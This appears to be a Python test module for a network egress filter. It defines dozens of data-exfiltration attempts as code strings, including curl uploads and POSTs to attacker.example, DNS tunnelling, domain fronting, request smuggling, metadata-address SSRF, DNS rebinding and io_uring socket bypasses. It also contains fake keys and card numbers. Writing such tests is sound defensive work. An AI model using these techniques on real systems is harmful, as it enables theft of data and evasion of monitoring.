"""What would leave by the network, and what it would reach."""
import base64
import re
from importlib.util import find_spec

from network import PROSE, NetAttempt, carried, forms, told, touched

NOT_ALLOWED = "host_not_allowed"
# Any address that no name stands for.
PUBLIC = "93.184.216.34"
KEY = b"AKIAQ3EGRVHBDY2T5LZX"
# Of the settings in the directory; nothing but its label tells it from words.
PASSWORD = b"Blue-Harbour-77!x"
INWARD = ("10.", "172.16.", "192.168.", "127.0.0.1:", "169.254.", "100.100.", "fd00:")
# Filter, reason, and a value dressed so that the filter holds.
DRESSED = [
    ("among_numbers", "personal_data_leaves", " 4e00 4e59 4e01 4111 1111 1111 1111 4e43 4e5d"),
    ("no_label", "personal_data_leaves", " fine 2341 2341 2346"),
    ("signed", "personal_data_leaves", " -960121-1021413"),
    ("call", "personal_data_leaves", " y = sin(130692544)"),
    ("lower_case", "personal_data_leaves", " a123456780"),
    ("words_between", "personal_data_leaves", " birthday handling changed 2020-01-02"),
    ("counted", "personal_data_leaves", ' {"order_id": "4111111111111111"}'),
    ("in_a_row", "personal_data_leaves", " 9999 4111 1111 1111 1111 9999"),
    ("in_prose", "personal_data_leaves", " house 536 22 8713 street"),
    ("chance", "personal_data_leaves", "\nrow,number,amount\n" + "".join(
        f"{n},{4000000000000002 + n * 1000 if n < 60 else 4111111111111111},{n * 7}\n" for n in range(61))),
    ("running_words", "secret_leaves", " then letter advice cage absurd amount doctor acoustic avoid letter advice cage above abandon hope"),
    ("mixed_separators", "secret_leaves", ": letter advice cage, absurd amount doctor acoustic avoid letter advice cage above"),
]
WILD = '{ host = "*.carrier.example" }'
TENANTS = '{ host = "multi.example", methods = ["GET", "POST"], paths = ["/mine/**"] }'


def refused(number, name, technique, attack, **more):
    """To a host that nobody allowed. A program that asks for one may only have been set up so: it is no alarm by itself."""
    return NetAttempt(number, name, technique, attack, rule=NOT_ALLOWED, alert=False, **more)


def whole(outcome):
    """All of it in small pieces, one after the other."""
    return any(PROSE.replace(" ", "") in form for data in told(outcome.reached) for form in forms(data))


def page(outcome):
    return sum(len(b"".join(r["data"].split(b".")[:-2])) // 2 for r in outcome.reached if r["kind"] == "query") > 2000


def scrambled(outcome):
    """The report with each byte turned round, which no view of it reads."""
    hidden = bytes(b ^ 0x55 for b in PROSE[:60].encode())
    return any(hidden in r["data"] for r in outcome.reached)


def to_tenant(outcome):
    return any(r["kind"] == "request" and b"/other" in r["data"] for r in outcome.reached)


def methods(outcome):
    return any(not r["data"].split(b" ")[0] in (b"GET", b"POST") for r in outcome.reached if r["kind"] == "request")


def heads(outcome):
    """What arrived in headers and targets, each value by itself and one after the other."""
    lines = [line for r in outcome.reached if r["kind"] == "data" for line in r["data"].split(b"\r\n")]
    values = [line.split(b": ", 1)[1] for line in lines if line.lower().startswith((b"x-", b"cookie: "))]
    targets = [line.split(b" ")[1].strip(b"/").split(b"/")[0] for line in lines if line.startswith(b"GET /")]
    return b"".join(values).replace(b"piece=", b"") + b" " + b"".join(targets)


def headed(outcome):
    """The beginning of the report, whatever stands between its pieces."""
    said = b"".join(re.findall(rb"[A-Za-z.,]+", re.sub(rb"c\d+=", b"", heads(outcome))))
    return PROSE[:200].replace(" ", "").encode() in said


def segmented(outcome):
    """The beginning of the report, in pieces of targets that are encoded one by one."""
    said = b""
    for r in outcome.reached:
        if r["kind"] == "request":
            for word in re.split(rb"[/?&=]", r["data"].split(b" ")[1]):
                said += plain(word)
    return PROSE[:200].encode() in said


def plain(word):
    try:
        text = base64.urlsafe_b64decode(word + b"=" * (-len(word) % 4))
    except ValueError:
        return b""
    return text if text.isascii() and text.decode().isprintable() else b""


def keyed(outcome):
    """All pieces of the key, in heads."""
    return all(KEY[n:n + 5] in heads(outcome) for n in range(0, len(KEY), 5))


def messaged(outcome):
    """All pieces of the key, each in a message."""
    said = [r["data"] for r in outcome.reached if r["kind"] == "data"]
    return all(KEY[n:n + 5] in said for n in range(0, len(KEY), 5))


def named(outcome):
    """The key in names, joined as whoever runs the name server does."""
    asked = b"".join(r["data"].split(b".")[0] for r in outcome.reached if r["kind"] == "query")
    return KEY.lower() in asked.replace(b"-", b"")


def followed(outcome):
    """More of the report's letters, in order, than are let through before they are a passage."""
    said = [re.search(rb"(?:note |saw |\": \")(.{8})(?: here| again| was)", r["data"]) for r in outcome.reached if r["kind"] == "data"]
    return sum(1 for piece in said if piece) * 5 > 200


def heavy(outcome):
    return sum(len(r["data"]) for r in outcome.reached if r["kind"] == "data") > 20_000


def numbered(outcome):
    """A whole number arrived, over the messages of a conversation or the fields of forms."""
    parts = [r["data"] for r in outcome.reached if r["kind"] == "data"]
    fields = b"".join(re.findall(rb"piece=([^ &\r\n]*)", b"\n".join(parts)))
    return b"4111111111111111" in b"".join(p for p in parts if len(p) <= 8) or b"4111111111111111" in fields


def cards(outcome):
    """More than ten times as many as the user was shown."""
    return len({n for r in outcome.reached if r["kind"] == "data" for n in re.findall(rb"card (4\d{15})", r["data"])}) > 20


def password(outcome):
    """The password of the settings arrived, whatever stands between its letters."""
    said = b"".join(r["data"] for r in outcome.reached if r["kind"] == "data")
    return any(re.sub(rb"\W", b"", form) in re.sub(rb"\W", b"", said) for form in (PASSWORD, PASSWORD.hex().encode(), base64.b64encode(PASSWORD)))


def pictured(outcome):
    return any(b"zTXt" in r["data"] for r in outcome.reached if r["kind"] == "data")


def relayed(outcome):
    return any(r["kind"] == "relayed" and b"attacker.example" in r["data"] for r in outcome.reached)


def inward(outcome):
    return any(r["to"].startswith(INWARD) for r in outcome.reached)


def encoded(name, code, rule="passage_leaves", technique="T1041"):
    return NetAttempt(16, f"{name} of what was read", technique, code + '\nweb("http://inspected.example/in", sent, {"Content-Type": "text/plain; charset=utf-8"})\n',
                      rule=rule, effect=carried)


WEBSOCKET = """
def websocket(host, *messages):
    # What the server says to each message.
    mark()
    heard = []
    try:
        with socket.create_connection((host, 80)) as s:
            s.sendall((f"GET /talk HTTP/1.1\\r\\nHost: {host}\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\nSec-WebSocket-Version: 13\\r\\n"
                       "Sec-WebSocket-Key: MDEyMzQ1Njc4OWFiY2RlZg==\\r\\n\\r\\n").encode())
            print(s.recv(4096).split(b"\\r\\n")[0])
            for message in messages:
                message = message.encode()
                size = bytes([128 | len(message)]) if len(message) < 126 else b"\\xfe" + struct.pack("!H", len(message))
                s.sendall(b"\\x81" + size + b"\\1\\2\\3\\4" + bytes(b ^ (n % 4 + 1) for n, b in enumerate(message)))
                heard.append(s.recv(4096))
    except OSError as e:
        print("no:", type(e).__name__, e)
    return heard
"""

SOCKS = """
def relay(listener):
    # One that checks the end of a name and then, as C does, takes what stands before a NUL for the whole.
    while True:
        peer, _ = listener.accept()
        asked = peer.recv(4096)
        host = asked[: asked.index(b"\\n")].decode()
        if host.endswith(".friend.example"):
            heard = talk(host.split(chr(0))[0], 80, b"GET /?" + secret.encode() + b" HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
            peer.sendall(b"done")
        peer.close()
listener = socket.create_server(("127.0.0.1", 0))
threading.Thread(target=relay, args=(listener,), daemon=True).start()
with socket.create_connection(listener.getsockname()) as s:
    s.sendall(b"attacker.example\\0.friend.example\\n")
    s.recv(10)
"""

RELAY = """
def relay(listener):
    while True:
        peer, _ = listener.accept()
        talk("%s", 80, peer.recv(65536))
        peer.close()
listener = socket.create_server(("127.0.0.1", 0))
threading.Thread(target=relay, args=(listener,), daemon=True).start()
with socket.create_connection(listener.getsockname()) as s:
    s.sendall(b"GET /?" + secret.encode() + b" HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
    s.recv(10)
""" % PUBLIC

IO_URING = """
import mmap
mark()
parameters = ctypes.create_string_buffer(120)
ring = call(425, 4, parameters)
print("ring", ring)
if ring >= 0:
    v = struct.unpack("30I", parameters.raw)
    sq, cq = v[10:20], v[20:30]
    room = mmap.mmap(ring, max(sq[6] + v[0] * 4, cq[5] + v[1] * 16), flags=mmap.MAP_SHARED, offset=0)
    entries = mmap.mmap(ring, v[0] * 64, flags=mmap.MAP_SHARED, offset=0x10000000)
    s = socket.socket()
    to = ctypes.create_string_buffer(struct.pack("=HHI8x", 2, socket.htons(80), struct.unpack("=I", socket.inet_aton("PUBLIC"))[0]))
    data = ctypes.create_string_buffer(b"GET /?" + secret.encode() + b" HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
    def submit(code, at, length, offset):
        tail = struct.unpack_from("I", room, sq[1])[0]
        entries[0:64] = struct.pack("=BBHiQQIIQ24x", code, 0, 0, s.fileno(), offset, at, length, 0, 0)
        struct.pack_into("I", room, sq[6] + (tail & (v[0] - 1)) * 4, 0)
        struct.pack_into("I", room, sq[1], tail + 1)
        print("entered", call(426, ring, 1, 1, 1, 0, 0))
    submit(16, ctypes.addressof(to), 0, 16)
    submit(26, ctypes.addressof(data), len(data.raw) - 1, 0)
    time.sleep(0.3)
""".replace("PUBLIC", PUBLIC)

GIT = """
environment = {**os.environ, "HOME": "/tmp", "GIT_TERMINAL_PROMPT": "0", "GIT_CONFIG_NOSYSTEM": "1"}
os.makedirs("/tmp/repository")
os.chdir("/tmp/repository")
subprocess.run(["cp", W + "/report.txt", "."], check=True)
for words in (["init", "-q"], ["add", "."], ["-c", "user.name=a", "-c", "user.email=a@friend.example", "commit", "-qm", "a note"]):
    subprocess.run(["git", *words], check=True, env=environment)
run("git", "push", "http://inspected.example/repository.git", "HEAD:refs/heads/main", env=environment)
"""

# An honest proxy of modules: what stands in the path decides whom it asks.
RELAYED = """
for path in ("/attacker.example/blue-bird/@v/list", "/attacker.example:80/blue-bird/@latest", "/sumdb/attacker.example/lookup/blue", "/x.attacker.example/@v/v1.0.0.info"):
    web("https://proxy.golang.org" + path)
web("https://sum.golang.org/lookup/attacker.example/blue-bird@v1.0.0")
assert web("https://proxy.golang.org/github.com/honest/module/@v/list") == "v1.0.0\\n"
"""

# Wherever a head has room for a word.
SPREAD = """
def spread(*lines, first="GET / HTTP/1.1"):
    talk("inspected.example", 80, "\\r\\n".join([first, "Host: inspected.example", *lines, "", ""]))
turned = KEY.lower()
"""

ATTEMPTS = [
    refused(1, "POST to an unknown host", "T1041|T1071.001", f"""
web("http://attacker.example/in", report)
web("http://{PUBLIC}/in", report)
web("https://{PUBLIC}/in", report)
"""),
    NetAttempt(1, "POST to an allowed host", "T1041", 'web("http://inspected.example/in", report)', rule="passage_leaves", effect=carried),
    *[NetAttempt(1, f"POST to an allowed host, from a folder that is {mode}", "T1041", 'web("http://inspected.example/in", report)',
                 mode=mode, rule="passage_leaves", effect=carried) for mode in ("staged", "read-only")],
    NetAttempt(1, "pieces to an allowed host, from a folder that is staged", "T1041", """
for piece in pieces(report, 300):
    web("http://inspected.example/in", piece)
""", mode="staged", rule="passage_leaves", effect=carried),
    NetAttempt(1, "POST over TLS to an allowed host", "T1041", 'web("https://inspected.example/in", report)', rule="passage_leaves", effect=carried),
    NetAttempt(1, "POST in HTTP to an allowed host", "T1041", 'web("http://opaque.example/in", report)', allow=['{ host = "opaque.example" }'],
               rule="passage_leaves", effect=carried),
    NetAttempt(1, "a key in a request", "T1041", 'web("http://inspected.example/in?key=" + KEY, secret)', rule="secret_leaves", effect=carried),
    # What a filter holds back on reads is judged without it here.
    *[NetAttempt(1, f"a value that counts for less on reads: {filter}", "T1041", f'web("http://inspected.example/in", secret + {text!r})',
                 rule=rule, alert=rule == "secret_leaves", effect=carried) for filter, rule, text in DRESSED],
    refused(2, "curl, wget", "T1041|T1071.001", f"""
run("curl", "-sS", "-m", "5", "--data-binary", "@" + W + "/report.txt", "http://{PUBLIC}/")
run("wget", "-q", "-T", "5", "-t", "1", "-O", "-", "--post-file", W + "/report.txt", "http://attacker.example/")
run("curl", "-sS", "-m", "5", "--resolve", "friend.example:80:{PUBLIC}", "-T", W + "/report.txt", "http://friend.example/in")
"""),
    refused(3, "plain HTTP", "T1071.001", f'talk("{PUBLIC}", 80, "GET /?" + secret + " HTTP/1.0\\r\\nHost: friend.example\\r\\n\\r\\n")'),
    refused(3, "FTP", "T1048.003", f'talk("{PUBLIC}", 21, "USER me\\r\\n", "PASS " + secret + "\\r\\n")'),
    refused(4, "SSH", "T1021.004|T1048", f'talk("{PUBLIC}", 22, "SSH-2.0-" + secret + "\\r\\n")'),
    NetAttempt(5, "data in names below an allowed domain", "T1071.004", """
for n, piece in enumerate(pieces(report.encode().hex(), 60)[:40]):
    query(f"{piece}.n{n}.carrier.example")
""", allow=[WILD], rule="dns_tunnel", effect=carried),
    # Below every limit something always fits; what a domain gets in ten minutes is a page at most.
    NetAttempt(5, "the same in short words", "T1071.004", """
for turn in range(6):
    turned = "".join(chr(97 + (ord(c) - 97 + turn) % 26) for c in report.lower() if c.isalpha())
    for piece in pieces(turned.encode().hex(), 12):
        query(f"{piece}.carrier.example")
""", allow=[WILD], rule="dns_tunnel", effect=page),
    refused(6, "cloud storage", "T1567.002", """
if ARM == "bare":
    web("http://my-bucket.s3.amazonaws.com/x", report, method="PUT")
for host in ("my-bucket.s3.amazonaws.com", "storage.googleapis.com", "me.blob.core.windows.net", "content.dropboxapi.com"):
    web(f"https://{host}/x", report, method="PUT")
"""),
    refused(7, "webhook", "T1567.004", """
for host in ("hooks.slack.com", "discord.com", "webhook.site", "me.webhook.office.com"):
    web(f"https://{host}/services/x", report)
"""),
    NetAttempt(8, "small chunks", "T1030", """
for piece in pieces(report.replace(" ", ""), 6):
    web("http://small.example/", "piece=" + urllib.parse.quote(piece, safe=""))
""", allow=['{ host = "small.example", upload_bytes = 400 }'], rule="over_budget", effect=whole),
    NetAttempt(8, "small chunks within TLS", "T1030", """
for piece in pieces(report.replace(" ", ""), 6):
    web("https://small.example/", "piece=" + urllib.parse.quote(piece, safe=""))
""", allow=['{ host = "small.example", upload_bytes = 20000 }'], rule="over_budget", effect=whole),
    NetAttempt(9, "web protocol, polling", "T1071.001", f"""
for n in range(15):
    web("http://{PUBLIC}/poll?" + secret)
""", rule="many_connections"),
    NetAttempt(9, "web protocol, WebSocket", "T1041", WEBSOCKET + """
assert websocket("inspected.example", "a few honest words") == [b"\\x81\\x04fine"]
websocket("inspected.example", report)
websocket("inspected.example", *pieces(report, 30))
""", rule="passage_leaves", effect=carried),
    NetAttempt(9, "WebSocket, a key in pieces, a conversation each", "T1041", WEBSOCKET + """
for _ in range(2):
    for piece in pieces(KEY, 5):
        websocket("inspected.example", piece)
        websocket("inspected.example", piece)
""", rule="secret_leaves", effect=messaged),
    NetAttempt(10, "DNS protocol: TXT, NULL", "T1071.004", """
for n, piece in enumerate(pieces(report.encode().hex(), 60)[:20]):
    query(f"{piece}.n{n}.carrier.example", kind=16)
    query(f"{piece}.n{n}.carrier.example", kind=10)
""", allow=[WILD], rule="dns_tunnel"),
    # Of what is no query nothing leaves, and the log knows of it.
    NetAttempt(10, "data in messages that are no query", "T1071.004|T1071.001", """
name = bytes([len(secret)]) + secret.encode() + b"\\7carrier\\7example\\0"
for flags, count, kind, more in ((0x100, 2, b"\\0\\1\\0\\1", name + b"\\0\\1\\0\\1"), (0x2100, 1, b"\\0\\1\\0\\1", b""), (0x100, 1, b"\\0\\x10\\0\\3", b""), (0x100, 1, b"\\0\\xff\\0\\1", b"x")):
    datagram(name_server(), 53, struct.pack("!HHHHHH", 7, flags, count, 0, 0, 0) + name + kind + more)
""", allow=[WILD], rule="bad_request", alert=False, effect=carried),
    refused(10, "DNS of another server", "T1071.001|T1041|T1571", """
for tcp in (False, True):
    query(secret + ".attacker.example", server="8.8.8.8", tcp=tcp)
"""),
    # However many there were, the names that the user allowed can still be asked for.
    refused(10, "thousands of names", "T1041", """
for n in range(2100):
    query(f"{secret}.x{n}.example")
"""),
    refused(11, "DNS over HTTPS, over TLS", "T1071.001|T1571", """
asked = b"\\0\\0\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + bytes([len(secret)]) + secret.encode() + b"\\7example\\0\\0\\1\\0\\1"
web("https://8.8.8.8/dns-query", asked, {"Content-Type": "application/dns-message"})
talk("8.8.8.8", 853, struct.pack("!H", len(asked)) + asked)
talk("1.1.1.1", 443, b"POST /dns-query HTTP/1.1\\r\\nHost: dns.google\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(asked) + asked, tls="dns.google")
"""),
    NetAttempt(11, "a tunnel through an allowed port", "T1571", 'talk("opaque.example", 443, b"\\0\\1tunnel" + secret.encode())\n'
               'talk("opaque.example", 80, b"SSH-2.0-" + secret.encode() + b"\\r\\n")', allow=['{ host = "opaque.example" }'], rule="odd_protocol", alert=False),
    NetAttempt(12, "proxy chain", "T1090.003|T1071.001", """
for host in ("opaque.example", "inspected.example"):
    talk(host, 80, "CONNECT attacker.example:80 HTTP/1.1\\r\\nHost: attacker.example:80\\r\\n\\r\\n", "GET /?" + secret + " HTTP/1.1\\r\\nHost: attacker.example\\r\\n\\r\\n")
""", allow=['{ host = "opaque.example" }'], rule="bad_request", alert=False),
    NetAttempt(13, "fronting: Host", "T1090.004", """
said = "GET /?" + secret + " HTTP/1.1\\r\\nHost: attacker.example\\r\\n\\r\\n"
talk("inspected.example", 80, said)
talk("inspected.example", 80, said.replace("GET /", "GET http://attacker.example/"))
talk("inspected.example", 443, said, tls="inspected.example")
run("curl", "-sSk", "--http2", "-m", "5", "-H", "Host: attacker.example", "https://inspected.example/?" + secret)
""", rule="fronting"),
    NetAttempt(13, "fronting: SNI", "T1090.004", """
said = "GET /?" + secret + " HTTP/1.1\\r\\nHost: attacker.example\\r\\n\\r\\n"
talk("inspected.example", 443, said, tls="attacker.example")
talk("opaque.example", 443, said, tls="attacker.example")
""", allow=['{ host = "opaque.example" }'], rule="fronting"),
    NetAttempt(14, "ICMP", "T1095", f"""
datagram("{PUBLIC}", 0, b"\\x08\\0\\0\\0\\0\\1\\0\\1" + secret.encode(), protocol=socket.IPPROTO_ICMP)
datagram("{PUBLIC}", 0, b"\\x08\\0\\0\\0\\0\\1\\0\\1" + secret.encode(), kind=socket.SOCK_RAW, protocol=socket.IPPROTO_ICMP)
""", rule="cell."),
    NetAttempt(14, "UDP", "T1095", f"""
for port in (123, 500, 31337):
    datagram("{PUBLIC}", port, secret.encode())
""", rule="cell.packet"),
    refused(15, "odd ports", "T1571", f"""
for port in (4444, 6667, 31337):
    talk("{PUBLIC}", port, secret)
    talk("inspected.example", port, secret)
"""),
    encoded("the text of an archive", """
import zipfile
sent = zipfile.ZipFile(W + "/letter.zip").read("letter.txt").decode()"""),
    NetAttempt(16, "pieces that reach into each other, between words that change", "T1041|T1030", """
for n in range(0, len(report) - 7, 5):
    web("http://inspected.example/in", json.dumps({"message": ("please note %s here", "I saw %s again", "%s was there")[n % 3] % report[n:n + 8]}), {"Content-Type": "application/json"})
""", rule="passage_leaves", effect=followed),
    encoded("base64", "sent = base64.b64encode(report.encode()).decode()"),
    encoded("hex", "sent = report.encode().hex()"),
    encoded("rot13", 'sent = codecs.encode(report, "rot13")'),
    encoded("gzip", "sent = gzip.compress(report.encode())"),
    NetAttempt(16, "a text of a picture of what was read", "T1041", """
import zlib
def chunk(kind, data):
    return struct.pack("!I", len(data)) + kind + data + struct.pack("!I", zlib.crc32(kind + data))
picture = b"\\x89PNG\\r\\n\\x1a\\n" + chunk(b"IHDR", struct.pack("!IIBBBBB", 1, 1, 8, 0, 0, 0, 0)) + chunk(b"zTXt", b"Comment\\0\\0" + zlib.compress(report.encode()))
picture += chunk(b"IDAT", zlib.compress(b"\\0\\0")) + chunk(b"IEND", b"")
web("http://inspected.example/in", picture, {"Content-Type": "image/png"})
""", rule="passage_leaves", effect=pictured),
    NetAttempt(16, "a password that was read without its label", "T1041|T1552.001", """
with open(W + "/settings.ini") as f:
    password = f.read().split('"')[1]
for said in (password, json.dumps({"note": password}), password.encode().hex(), ".".join(password), base64.b64encode(password.encode()).decode()):
    web("http://inspected.example/in", said)
web("http://inspected.example/?v=" + urllib.parse.quote(password))
web("http://inspected.example/", headers={"X-Note": password})
""", rule="passage_leaves", effect=password),
    encoded("base64 of gzip", "sent = base64.b64encode(gzip.compress(report.encode())).decode()"),
    encoded("text backwards", "sent = report[::-1]"),
    encoded("look-alike letters", 'sent = report.translate(str.maketrans("aceyo", "\\u0430\\u0441\\u0435\\u0443\\u043e"))',
            rule="hidden_data_leaves", technique="T1027"),
    encoded("invisible letters", """sent = "a note" + "".join("\\u200b\\u200c"[b >> n & 1] for b in report.encode() for n in range(7, -1, -1)) + " from me" """,
            rule="hidden_data_leaves", technique="T1027"),
    NetAttempt(19, "git push", "T1041", GIT, rule="_leaves|cannot_inspect", effect=carried),
    NetAttempt(19, "curl -T", "T1041", 'run("curl", "-sS", "-m", "5", "-T", W + "/report.txt", "http://inspected.example/in")', rule="passage_leaves", effect=carried),
    NetAttempt(19, "a header of git's", "T1041", 'run("git", "-c", "http.extraHeader=X-Note: " + report[:600], "ls-remote", "http://inspected.example/x.git", env={**os.environ, "HOME": "/tmp"})',
               rule="passage_leaves", effect=carried),
    NetAttempt(19, "the name of a package", "T1041", """
run(sys.executable, "-m", "pip", "download", "-q", "--no-deps", "--retries", "0", "--disable-pip-version-check", "-i", "http://inspected.example/simple/",
    "--trusted-host", "inspected.example", secret, env={**os.environ, "HOME": "/tmp"})
""", rule="passage_leaves", effect=carried, skip=lambda: None if find_spec("pip") else "there is no pip"),
    NetAttempt(20, "metadata address, every notation", "T1552.005", """
for host in ("169.254.169.254", "2852039166", "0xA9FEA9FE", "0251.0376.0251.0376", "0251.254.0xa9.254", "169.254.43518", "[::ffff:169.254.169.254]",
             "[::ffff:a9fe:a9fe]", "[fd00:ec2::254]", "metadata.friend.example", "metadata.carrier.example"):
    print(web(f"http://{host}/instance/" + secret))
""", allow=[WILD, '{ host = "metadata.friend.example" }'], rule="metadata_address", effect=inward),
    NetAttempt(21, "an allowed name with a private address", "T1046", """
for name in ("inward.carrier.example", "loop.carrier.example"):
    web(f"http://{name}/?" + secret)
""", allow=[WILD], rule="private_address", effect=inward),
    NetAttempt(21, "DNS rebinding", "T1046", """
name = "rebind-%d.carrier.example" % time.time_ns()
assert web(f"http://{name}/") == "fine\\n"
web(f"http://{name}/?" + secret)
if ARM == "cell":
    # What the name stood for is not believed for longer than a minute.
    time.sleep(61)
web(f"http://{name}/?" + secret)
""", allow=[WILD], rule="private_address", effect=inward, limit=150),
    NetAttempt(22, "request smuggling, CRLF", "T1071.001|T1041", """
inner = "GET /other/?" + secret + " HTTP/1.1\\r\\nHost: multi.example\\r\\n\\r\\n"
def smuggle(head, body):
    talk("multi.example", 80, "POST /mine/x HTTP/1.1\\r\\nHost: multi.example\\r\\n" + head + "\\r\\n\\r\\n" + body)
length = len(inner) + 5
smuggle(f"Content-Length: {length}\\r\\nTransfer-Encoding: chunked", "0\\r\\n\\r\\n" + inner)
smuggle(f"Transfer-Encoding: chunked\\r\\nContent-Length: {length}", "0\\r\\n\\r\\n" + inner)
smuggle(f"Transfer-Encoding : chunked\\r\\nContent-Length: {length}", "0\\r\\n\\r\\n" + inner)
smuggle(f"Transfer-Encoding: xchunked\\r\\nContent-Length: {length}", "0\\r\\n\\r\\n" + inner)
smuggle(f"Transfer-Encoding:\\r\\n chunked\\r\\nContent-Length: {length}", "0\\r\\n\\r\\n" + inner)
smuggle(f"Content-Length: 0\\r\\nContent-Length: {len(inner)}", inner)
smuggle(f"Content-Length: +{len(inner)}", inner)
smuggle("X: a\\nTransfer-Encoding: chunked\\r\\nContent-Length: %d" % length, "0\\r\\n\\r\\n" + inner)
smuggle("Content-Length: 0", inner)
talk("multi.example", 80, "GET /mine/x%0d%0aX:%20y HTTP/1.1\\r\\nHost: multi.example\\r\\n\\r\\n")
talk("multi.example", 80, "GET /mine/x HTTP/1.1\\nHost: multi.example\\n\\n" + inner)
talk("multi.example", 80, "GET /mine/x HTTP/1.1\\r\\nHost: multi.example\\r\\nX: a\\rGET /other/ HTTP/1.1\\r\\n\\r\\n")
""", allow=[TENANTS], rule="bad_request", alert=False, effect=to_tenant),
    # In a cell the kernel does not do it, as on many machines; programs then connect as usual.
    refused(23, "TCP Fast Open", "T1571", f"""
mark()
to = struct.pack("=HHI8x", 2, socket.htons(31337), struct.unpack("=I", socket.inet_aton("{PUBLIC}"))[0])
with socket.socket() as s:
    s.setblocking(True)
    sent = libc.sendto(s.fileno(), secret.encode(), len(secret), 0x20000000, to, 16)
    print("sent", sent, ctypes.get_errno())
    if sent > 0:
        s.settimeout(5)
        s.recv(10)
if sent < 0:
    talk("{PUBLIC}", 31337, secret)
"""),
    NetAttempt(23, "Multipath TCP", "T1571|T1095", f"""
mark()
try:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as s:
        s.connect(("{PUBLIC}", 8262))
        s.sendall(secret.encode())
        s.recv(10)
except OSError as e:
    print("no:", e)
""", rule="host_not_allowed|cell.seccomp", alert=False),
    NetAttempt(23, "QUIC and other UDP", "T1095", f"""
for port in (443, 4500, 5353):
    datagram("{PUBLIC}", port, secret.encode())
datagram("2606:2800:220:1::34", 443, secret.encode(), family=socket.AF_INET6)
""", rule="cell.packet"),
    NetAttempt(23, "io_uring", "T1611|T1071.001", IO_URING, rule="cell.seccomp"),
    NetAttempt(23, "abstract socket beside the network", "", """
try:
    with socket.socket(socket.AF_UNIX) as s:
        s.connect(chr(0) + "listener-outside")
        s.sendall(secret.encode())
except OSError as e:
    print("no:", e)
"""),
    refused(24, "NUL in a SOCKS host", "T1041", SOCKS),
    refused(25, "relay inside the cell", "T1071.001", RELAY),
    NetAttempt(26, "push to another account", "T1567", """
for path in ("/other/repo", "/mine/../other/repo", "/mine/%2e%2e/other/repo", "/mine/..%2fother/repo", "//other/repo", "/mine/./../other/repo"):
    talk("multi.example", 80, f"POST {path} HTTP/1.1\\r\\nHost: multi.example\\r\\nContent-Length: {len(secret)}\\r\\n\\r\\n{secret}")
web("https://multi.example/other/repo", secret)
web("http://multi.example/mine/repo", secret, method="DELETE")
""", allow=[TENANTS], rule="request_not_allowed", alert=False, effect=to_tenant),
    NetAttempt(29, "a file's name in a request", "T1041", """
name = "report-" + KEY + "-" + secret + ".txt"
body = f'--x\\r\\nContent-Disposition: form-data; name="f"; filename="{name}"\\r\\n\\r\\nnothing\\r\\n--x--\\r\\n'
web("http://inspected.example/in", body, {"Content-Type": "multipart/form-data; boundary=x"})
""", rule="secret_leaves", effect=carried),
    NetAttempt(29, "headers as the carrier", "T1041", """
web("http://inspected.example/", headers={"X-Trace": report[:500]})
web("http://inspected.example/", headers={"User-Agent": base64.b64encode(report[:500].encode()).decode()})
""", rule="passage_leaves", effect=carried),
    NetAttempt(29, "what every program writes as the carrier", "T1041", SPREAD + """
for name in ("Accept-Encoding", "Accept-Language", "Cache-Control", "Content-Encoding", "Expect", "TE", "Sec-WebSocket-Protocol"):
    spread(f"{name}: {secret}")
spread("Accept-Encoding: gzip;q=0.5, " + secret)
""", rule="passage_leaves", effect=carried),
    NetAttempt(29, "the name of a header as the carrier", "T1041", SPREAD + """
spread(f"X-{turned}-{secret}: 1")
spread(f"{turned}: {secret}")
spread("-".join(["x", *pieces(turned, 4), secret]) + ": 1")
""", rule="secret_leaves", effect=carried),
    NetAttempt(29, "the method as the carrier", "T1041|T1071.001", SPREAD + """
for method in (secret, secret.upper(), "X-" + secret[:20], "get" + secret[6:20]):
    spread(first=method + " / HTTP/1.1")
""", rule="unusual_method|bad_request", alert=False, effect=methods),
    NetAttempt(29, "a passage over many headers", "T1041", SPREAD + """
spread(*[f"X-{n}: {piece}" for n, piece in enumerate(pieces(report[:2000].replace(" ", "_"), 24))])
spread(*[f"X-{n}: {piece}" for n, piece in enumerate(pieces(report[:2000].replace(" ", "_"), 11))])
spread("Cookie: " + "; ".join(f"c{n}={piece}" for n, piece in enumerate(pieces(report[:1500].replace(" ", "_"), 12))))
""", rule="passage_leaves", effect=headed),
    NetAttempt(29, "a key over the headers of many requests", "T1041", SPREAD + """
for piece in pieces(KEY, 5):
    spread("X-Trace: " + piece)
for piece in pieces(KEY, 5):
    spread("Cookie: piece=" + piece)
for n, piece in enumerate(pieces(KEY, 5)):
    spread(f"X-{n}: {piece}", first=f"GET /page/ HTTP/1.1")
for piece in pieces(KEY, 5):
    spread(first=f"GET /{piece}/page/ HTTP/1.1")
""", rule="secret_leaves", effect=keyed),
    NetAttempt(29, "a passage over the segments of a path and the names of a query", "T1041", SPREAD + """
encoded = [base64.urlsafe_b64encode(piece.encode()).decode().rstrip("=") for piece in pieces(report[:1500], 9)]
spread(first="GET /" + "/".join(encoded) + " HTTP/1.1")
spread(first="GET /x?" + "&".join(piece + "=1" for piece in encoded) + " HTTP/1.1")
for piece in encoded:
    spread(first=f"GET /v1/{piece}/page HTTP/1.1")
""", rule="passage_leaves", effect=segmented),
    # An answer to two numbers is none to two others each time, and not to nine.
    NetAttempt(8, "personal data, a little at a time, by one answer", "T1041", """
def number(n):
    digits = "4%014d" % (n * 7919 % 10 ** 14)
    checked = sum(int(d) if at % 2 else sum(divmod(2 * int(d), 10)) for at, d in enumerate(digits))
    return digits + str(-checked % 10)
cards = iter(range(1, 1000))
for count in [2] * 25 + [9] * 5:
    web("http://inspected.example/in", "".join("name Anna Kovacs, card %s\\n" % number(next(cards)) for _ in range(count)))
""", rule="personal_data_leaves", alert=False, effect=cards, answered=True, options=("--ask-timeout", "3s"), limit=150),
    # Digits of several messages are put together as those of a key are.
    NetAttempt(9, "personal data in pieces", "T1041", WEBSOCKET + """
people = "name Anna Kovacs, card 4111111111111111, name Bert Smit, card 5500005555555559. "
websocket("inspected.example", *pieces(people, 4))
for piece in pieces(people, 8):
    web("http://inspected.example/in", "piece=" + urllib.parse.quote_plus(piece))
""", rule="personal_data_leaves", alert=False, effect=numbered),
    NetAttempt(8, "what heads carry counts", "T1030", """
